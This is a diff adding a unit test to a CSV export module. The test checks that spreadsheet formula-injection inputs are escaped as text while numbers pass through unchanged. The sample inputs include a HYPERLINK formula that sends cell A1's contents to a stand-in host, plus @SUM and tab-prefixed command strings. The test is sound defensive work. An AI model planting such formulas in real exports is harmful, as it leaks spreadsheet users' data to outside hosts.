@@ -31,6 +31,19 @@ describe('CSV', () => {
     const csv = tableToCsv({ ...table('en'), details: [{ label: 'Currency', value: 'USD, rate 122.46' }] });
     expect(csv.slice(1).split('\r\n').slice(0, 3)).toEqual(['Currency,"USD, rate 122.46"', '', 'HS code,الوصف,TTI']);
   });
+  it('writes text that a spreadsheet would run as a formula as text, numbers as they are', () => {
+    const rows = [
+      ['=HYPERLINK("http://x.example/?"&A1,"Click")', '+1 234', -5],
+      ['@SUM(A1)', '-2+3', null],
+      ['\tcmd', 'a=b', 0],
+    ];
+    const csv = tableToCsv({ ...table('en'), rows });
+    expect(csv.slice(1).split('\r\n').slice(1, 4)).toEqual([
+      `"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",'+1 234,-5`,
+      "'@SUM(A1),'-2+3,-",
+      "'\tcmd,a=b,0",
+    ]);
+  });
   it('has a semicolon dialect with decimal commas, offered where the page language writes 1,5', () => {
     const csv = tableToCsv({ ...table('fr'), rows: [['0901;1', 'Café', 93.16]] }, 'semicolon');
     expect(csv.slice(1).split('\r\n')).toEqual(['HS code;الوصف;TTI', '"0901;1";Café;93,16', '']);
